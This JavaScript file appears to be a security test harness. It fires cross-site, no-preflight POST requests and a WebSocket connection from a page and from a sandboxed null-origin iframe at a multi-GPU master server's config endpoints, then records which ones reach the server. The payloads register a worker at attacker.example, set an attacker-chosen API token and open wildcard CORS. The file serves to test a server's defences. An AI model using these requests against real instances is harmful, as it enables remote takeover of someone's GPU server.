// Runs in the page of another site and, as text, inside a sandboxed iframe of it (Origin: null). Every attempt and
// every websocket message is reported to window.seen of the top page, read by cross_site_page.mjs.
const master = window.MASTER_URL || new URLSearchParams(location.search).get("master");

function attack(origin, post) {
  const bodies = [
    ["/multigpu/config/update_setting", { key: "queue_mode", value: "all" }],
    ["/multigpu/config/add_worker", { name: "evil", host: "attacker.example", port: 80 }],
    ["/multigpu/config/update_worker", { worker_id: 1, extra_args: "--enable-cors-header *" }],
    ["/multigpu/config/update_setting", { key: "api_token", value: "attacker-chosen-token-0123" }],
    ["/multigpu/workers/launch", {}],
    ["/multigpu/events", { client_id: `attacker${origin}`, on: true, previews: true }],
  ];
  const sent = [];
  for (const prefix of ["", "/api"]) {
    for (const [path, body] of bodies) {
      // text/plain: a "simple" request, no preflight; the answer is opaque, but the request reaches the master
      sent.push(fetch(master + prefix + path, { method: "POST", mode: "no-cors", body: JSON.stringify(body) })
        .then(() => post({ kind: "sent", origin, path: prefix + path }),
              (error) => post({ kind: "blocked", origin, path: prefix + path, error: String(error) })));
    }
  }
  const socket = new WebSocket(`${master.replace(/^http/, "ws")}/ws?clientId=attacker${origin}`);
  socket.onopen = () => post({ kind: "ws-open", origin });
  socket.onerror = () => post({ kind: "ws-error", origin });
  socket.onmessage = (event) => {
    let type = "binary";
    try { type = JSON.parse(event.data).type; } catch { /* a binary frame */ }
    post({ kind: "ws-message", origin, type });
  };
  return Promise.all(sent).then(() => post({ kind: "done", origin }));
}

if (window.top === window) {
  window.seen = [];
  window.addEventListener("message", (event) => window.seen.push(event.data));
  attack("page", (record) => window.seen.push(record));
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-scripts");  // an opaque origin: its requests carry Origin: null
  const script = new URL("attack.js", location.href).href;  // loaded by URL: an opaque origin may load scripts
  frame.srcdoc = `<script>window.MASTER_URL = ${JSON.stringify(master)};<\/script><script src="${script}"><\/script>`;
  document.body.append(frame);
} else {
  attack("iframe", (record) => window.parent.postMessage(record, "*"));
}
